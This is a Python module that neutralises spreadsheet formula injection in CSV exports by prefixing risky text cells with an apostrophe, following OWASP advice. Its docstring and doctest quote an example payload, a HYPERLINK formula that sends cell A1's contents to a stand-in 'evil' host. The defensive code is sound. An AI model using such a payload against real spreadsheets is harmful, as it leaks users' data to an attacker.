"""CSV files an analyst can open in a spreadsheet safely.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is read by Excel, LibreOffice and Google Sheets as a formula: a customer e-mail of
``=HYPERLINK("http://evil/?x="&A1,"open")`` in suspected_links.csv would run when an
analyst opens the file. Every CSV guanxi writes for people (the analysis results,
load_report.csv) goes through :func:`write_csv`, which **neutralises** such cells the
way OWASP recommends: the cell gets a leading apostrophe (``'=HYPERLINK(...)``), which
spreadsheets show as text. Only text columns are touched; numbers (exact decimals,
integers, floats) never are, so ``-0.5`` in a numeric column stays a number. The store
always keeps the raw value; only the CSV copy is neutralised.
"""

from __future__ import annotations

import os
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

from guanxi.files import atomic_write

__all__ = ["FORMULA_STARTS", "neutralise", "neutralise_text", "write_csv"]

#: first characters that make a spreadsheet read a cell as a formula (OWASP)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PATTERN = "^[=+\\-@\\t\\r]"


def neutralise_text(value: str) -> str:
    """One text value made safe for a spreadsheet.

    Examples
    --------
    >>> neutralise_text('=HYPERLINK("http://evil/?x="&A1,"open")')
    '\\'=HYPERLINK("http://evil/?x="&A1,"open")'
    >>> neutralise_text("0001234"), neutralise_text("-5")
    ('0001234', "'-5")
    """
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell that would start a formula prefixed by ``'``
    (a copy; text columns only, vectorized by Arrow)."""
    out = frame.copy(deep=False)
    for column in frame.columns:
        values = frame[column]
        if values.dtype == "str":
            arr = pa.array(values.array) if len(values) else pa.array([], pa.large_string())
            if isinstance(arr, pa.ChunkedArray):
                arr = arr.combine_chunks()
            arr = arr.cast(pa.large_string())
            risky = pc.match_substring_regex(arr, _PATTERN).fill_null(False)
            if pc.any(risky).as_py():
                fixed = pc.if_else(
                    risky,
                    pc.binary_join_element_wise(
                        pa.scalar("'", pa.large_string()), arr, pa.scalar("", pa.large_string())
                    ),
                    arr,
                )
                out[column] = pd.Series(fixed, index=values.index, dtype="str")
        elif values.dtype == object:
            out[column] = values.map(lambda v: neutralise_text(v) if isinstance(v, str) else v)
    return out


def write_csv(frame: pd.DataFrame, path: str | os.PathLike[str]) -> Path:
    """Write ``frame`` (no index, UTF-8) to ``path`` atomically, formulas neutralised.

    Examples
    --------
    >>> import tempfile
    >>> path = Path(tempfile.mkdtemp()) / "out.csv"
    >>> frame = pd.DataFrame({"email": pd.Series(["=1+1", "a@b"], dtype="str"), "n": [-1, 2]})
    >>> print(write_csv(frame, path).read_text(), end="")
    email,n
    '=1+1,-1
    a@b,2
    """
    safe = neutralise(frame)
    return atomic_write(path, lambda tmp: safe.to_csv(tmp, index=False, encoding="utf-8"))
